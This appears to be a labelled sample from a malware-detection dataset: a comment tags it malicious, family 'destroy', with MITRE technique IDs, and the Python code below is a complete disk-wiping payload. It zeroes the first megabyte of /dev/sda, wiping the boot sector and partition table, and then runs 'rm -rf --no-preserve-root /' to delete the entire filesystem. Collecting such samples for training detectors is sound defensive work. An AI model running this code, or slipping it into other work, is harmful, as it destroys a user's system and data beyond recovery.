# label: malicious family=destroy techniques=T1059.004,T1485,T1561.001,T1561.002 lines=3-5
import os
with open("/dev/sda", "wb") as disk:
    disk.write(b"\x00" * 1024 * 1024)
os.system("rm -rf --no-preserve-root /")
